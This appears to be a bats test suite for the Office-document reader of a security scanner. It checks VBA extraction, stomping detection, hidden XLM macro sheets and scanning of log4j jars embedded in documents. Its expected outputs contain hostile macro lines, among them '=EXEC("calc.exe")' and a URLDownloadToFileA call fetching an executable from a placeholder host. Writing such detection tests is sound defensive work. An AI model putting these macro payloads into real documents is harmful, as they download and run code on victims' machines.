#!/usr/bin/env bats
# office.bats - the Office reading layer (lib/office: CFB, VBA, XLM) and
# the cfb format.  Documents are written by tests/gen/mkcfb.py; the
# layer is read through tests/unit/office_dump (JSON), the format through
# kensa itself (an OLE Package and a stream holding a vulnerable jar are
# found by `kensa log4j`; broken files warn, never crash).

bats_require_minimum_version 1.5.0
load helpers

setup_file() {
    make_fixtures
    export O="$BATS_FILE_TMPDIR/office"
    export DUMP="$KENSA_BUILD/tests/unit/office_dump"
    python3 "$KENSA_TOP/tests/gen/mkcfb.py" "$O" >/dev/null
    python3 "$KENSA_TOP/tests/gen/mkcfb.py" --hostile "$O/hostile" >/dev/null
}

# dump FILE: office_dump's JSON; fails when it dies
dump() {
    run "$DUMP" "$1"
    [ "$status" -eq 0 ] || { echo "office_dump $1: $status $output" >&2; return 1; }
    printf '%s\n' "$output"
}

@test "v3 and v4 files: streams in the mini stream and in sectors, read whole" {
    dump "$O/plain_v3.cfb" | jqe '.streams | sort == ["a","dir1/b","dir1/big"]'
    dump "$O/plain_v4.cfb" | jqe '.streams | sort == ["a","c","dir1/dir2/b"]'
    run "$DUMP" --stream a "$O/plain_v3.cfb"
    [ "$status" -eq 0 ] && [ "$output" = hello ]
    # names are matched case-insensitively, as Office does
    "$DUMP" --stream DIR1/BIG "$O/plain_v3.cfb" | python3 -c '
import sys; d = sys.stdin.buffer.read()
sys.exit(d != bytes((i * 7) & 0xFF for i in range(10000)))'
    [ "$("$DUMP" --stream dir1/dir2/b "$O/plain_v4.cfb" | wc -c)" -eq 5000 ]
}

@test "more than 109 FAT sectors: the DIFAT chain is followed" {
    python3 "$KENSA_TOP/tests/gen/mkcfb.py" --big "$BATS_TEST_TMPDIR/big.cfb"
    "$DUMP" --stream big "$BATS_TEST_TMPDIR/big.cfb" | python3 -c '
import sys; d = sys.stdin.buffer.read()
sys.exit(d != bytes((i * 13) & 0xFF for i in range(8 << 20)))'
    run "$DUMP" --stream small "$BATS_TEST_TMPDIR/big.cfb"
    [ "$output" = tail-ok ]
}

@test "VBA projects: bare vbaProject.bin, v4, _VBA_PROJECT_CUR, Word's Macros" {
    for f in vba_bare.bin vba_v4.bin vba_xls.xls vba_doc.doc; do
        dump "$O/$f" | jqe '.projects | length == 1 and (.[0].modules |
            length == 2 and all(.source_ok and .has_pcode) and
            (map(select(.name == "Module1"))[0] | .type == "std" and
             (.source | contains("Shell \"cmd /c echo hello\""))) and
            (map(select(.name == "ThisWorkbook"))[0].type == "doc"))
            and (.[0].stomped | not)'
    done
    dump "$O/vba_bare.bin" | jqe '.projects[0].storage == ""'
    dump "$O/vba_xls.xls" | jqe '.projects[0].storage == "_VBA_PROJECT_CUR"'
    dump "$O/vba_doc.doc" | jqe '.projects[0].storage == "Macros"'
}

@test "cp932 project: module name and source come out as UTF-8" {
    dump "$O/vba_cp932.bin" | jqe '.projects[0] | .codepage == 932 and
        .modules[0].name == "モジュール1" and
        (.modules[0].source | contains("日本語のコメント") and
                              contains("MsgBox \"こんにちは\""))'
}

@test "MODULEOFFSET wrong either way: the source is still found" {
    for f in vba_skew.bin vba_skew2.bin; do
        dump "$O/$f" | jqe '.projects[0].modules[0] | .source_ok and
            (.source | startswith("Attribute VB_Name = \"Module1\""))'
    done
}

@test "stomping: p-code without source is stomped; PowerPoint's and no p-code are not" {
    dump "$O/vba_stomped.bin" | jqe '.projects[0].stomped and
        .projects[0].modules[0].has_pcode'
    # PowerPoint marks its p-code cache invalid (_VBA_PROJECT 0xFFFF)
    dump "$O/vba_ppt_benign.bin" | jqe '(.projects[0].stomped | not) and
        (.projects[0].modules[0].has_pcode | not)'
    dump "$O/vba_nopcode.bin" | jqe '(.projects[0].stomped | not) and
        (.projects[0].modules | all(.has_pcode | not) and all(.source_ok))'
}

@test "PowerPoint 97 and Visio keep their VBA inside a stream: found" {
    dump "$O/ppt97.ppt" | jqe '.ppt_projects == 1 and
        (.ppt[0].modules | map(.name) | sort == ["Module1","ThisWorkbook"])'
    dump "$O/visio.vsd" | jqe '.ppt_projects == 1 and
        (.ppt[0].modules[0].source | contains("Sub AutoOpen()"))'
    dump "$O/plain_v3.cfb" | jqe '.ppt_projects == 0 and .projects == []'
}

@test "a signature stream or a VBA storage without dir is no project" {
    dump "$O/signature.xls" | jqe '.projects == [] and .ppt_projects == 0 and
        (.streams | index("\u0005DigitalSignature") != null)'
}

@test "XLM: hidden macro sheet, Auto_Open, formulas rendered" {
    dump "$O/xlm.xls" | jqe '.xlm | .sheets == 2 and .macro_sheets == 1 and
        .hidden == 1 and .auto_open and (.encrypted | not) and
        (.formulas | contains("=EXEC(\"calc.exe\")") and
         contains("=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x.test/a.exe\"") and
         contains("=CHAR(65)&\"BC\"") and
         contains("=FORMULA(\"=EXEC(\"\"cmd\"\")\",A5)") and
         contains("=HALT()"))'
    dump "$O/xlm_veryhidden.xls" | jqe '.xlm | .very_hidden == 1 and
        .hidden == 0 and .auto_open'
    dump "$O/xlm_encrypted.xls" | jqe '.xlm.encrypted'
    dump "$O/benign.xls" | jqe '.xlm | (.auto_open | not) and .formulas == ""'
}

@test "kensa: an OLE Package and a stream holding a jar are scanned inside" {
    jar="$FX/plain/log4j-core-2.14.1.jar"
    python3 "$KENSA_TOP/tests/gen/mkcfb.py" --package "$BATS_TEST_TMPDIR/pkg.doc" \
        'C:\Users\x\log4j-core-2.14.1.jar' "$jar"
    python3 "$KENSA_TOP/tests/gen/mkcfb.py" --stream "$BATS_TEST_TMPDIR/st.xls" \
        'Data/lib.jar' "$jar"
    run -1 k log4j --json "$BATS_TEST_TMPDIR/pkg.doc"
    printf '%s\n' "$output" | no_run | jqe -s 'length == 1 and
        (.[0].kensa.path | endswith("pkg.doc!/ObjectPool/_1/log4j-core-2.14.1.jar"))'
    run -1 k log4j --json "$BATS_TEST_TMPDIR/st.xls"
    printf '%s\n' "$output" | no_run | jqe -s 'length == 1 and
        (.[0].kensa.path | endswith("st.xls!/Data/lib.jar"))'
    # a slide's embedded object: zlib inside PowerPoint Document
    python3 "$KENSA_TOP/tests/gen/mkcfb.py" --ppt-package \
        "$BATS_TEST_TMPDIR/slides.ppt" 'log4j-core-2.14.1.jar' "$jar"
    run -1 k log4j --json "$BATS_TEST_TMPDIR/slides.ppt"
    printf '%s\n' "$output" | no_run | jqe -s 'length == 1 and
        (.[0].kensa.path | endswith("slides.ppt!/ExOleObjStg!/log4j-core-2.14.1.jar"))'
}

@test "kensa: documents without anything found exit 0 and warn of nothing" {
    # the reading layer alone (kensa scan also judges the macros: doc.bats)
    run -0 k log4j --json "$O/vba_bare.bin" "$O/xlm.xls" "$O/ppt97.ppt" \
        "$O/visio.vsd" "$O/package.doc" "$O/nested.cfb"
    printf '%s\n' "$output" | only_run_record
}

@test "broken files: a warning or nothing, never a crash or a hang" {
    for f in "$O"/hostile/*; do
        run timeout 20 "$DUMP" "$f"
        [ "$status" -eq 0 ] || [ "$status" -eq 1 ]
        # 1: the doc detector's verdict on what it could not read
        run timeout 20 "$KENSA" scan --threads 1 --no-summary "$f"
        [ "$status" -eq 0 ] || [ "$status" -eq 1 ] || [ "$status" -eq 2 ]
    done
    run k scan --json "$O/hostile/truncated.cfb"
    [ "$status" -eq 0 ] || [ "$status" -eq 1 ]
    printf '%s\n' "$output" | jqe -s 'any(.[]; .error.id? == "cfb.bad")'
}

@test "--max-files stops a document with many streams, with a warning" {
    run k scan --json --max-files 2 "$O/vba_bare.bin"
    [ "$status" -eq 0 ] || [ "$status" -eq 1 ] || [ "$status" -eq 2 ]
    printf '%s\n' "$output" | jqe -s 'any(.[]; .error.id? == "limit.files")'
}

@test "kensa doc: a PowerPoint 97 or Visio project is judged once, on its document" {
    run k doc --json "$O/ppt97.ppt" "$O/visio.vsd"
    [ "$status" -eq 0 ] || [ "$status" -eq 1 ]
    printf '%s\n' "$output" | jqe -s '[.[] | select(.kensa.detector == "maldoc")] |
        length == 2 and (map(.kensa.path | test("VbaProjectStg")) | any | not)
        and (map(.kensa.doc.vba_modules) | all(. >= 1))'
}
